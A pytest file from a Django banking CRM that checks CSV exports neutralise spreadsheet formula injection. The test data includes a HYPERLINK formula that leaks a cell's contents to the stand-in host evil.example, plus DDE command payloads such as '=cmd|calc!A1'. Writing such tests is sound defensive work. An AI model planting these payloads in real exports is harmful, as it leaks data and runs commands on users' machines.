"""CSV formula injection (issue 15, finding 5): text from people and files that reaches a CSV
the project writes (access report, audit export, import error report) cannot run as a
spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from bankcrm.core.csvfile import FORMULA_STARTS, neutralise
from bankcrm.ingest.models import ImportRun
from bankcrm.ingest.services import import_path
from bankcrm.ingest.specs import KINDS

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


def _runnable(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_STARTS) and neutralise(c) != c]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1234.50", "-1234.50"),  # a negative amount stays a number
        ("王芳", "王芳"),
        (12, 12),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(cell, written):
    assert neutralise(cell) == written


@pytest.mark.django_db
def test_a_reveal_reason_cannot_run_in_the_access_report_or_the_audit_export(bank, login):
    rm = login(bank.rm)
    url = f"/customers/{bank.mine.pk}/reveal/"
    assert rm.post(url, {"field": "mobile", "reason": HYPERLINK}).status_code == 200
    auditor = Client()
    auditor.force_login(bank.compliance)
    report = _cells(auditor.get(f"/audit/customers/{bank.mine.pk}/?format=csv"))
    export = _cells(auditor.get("/audit/export.csv"))
    for cells in (report, export):
        assert "'" + HYPERLINK in cells
        assert _runnable(cells) == []


@pytest.mark.django_db
def test_an_imported_cell_and_the_files_name_cannot_run_in_the_error_report(bank, tmp_path):
    path = tmp_path / "=cmd.csv"
    path.write_text(
        "customer_no,name_zh,branch\nC7000001,孙丽,=cmd|calc!A1\nC7000002,@钱峰,BJ\n",
        encoding="utf-8",
    )
    outcome = import_path(KINDS["customers"], path, actor=bank.admin, file_name="=cmd.csv")
    run = ImportRun.objects.get(pk=outcome.run_id)
    admin = Client()
    admin.force_login(bank.admin)
    cells = _cells(admin.get(f"/imports/{run.pk}/errors.csv"))
    assert "'=cmd|calc!A1" in cells and "'=cmd.csv" in cells
    assert _runnable(cells) == []
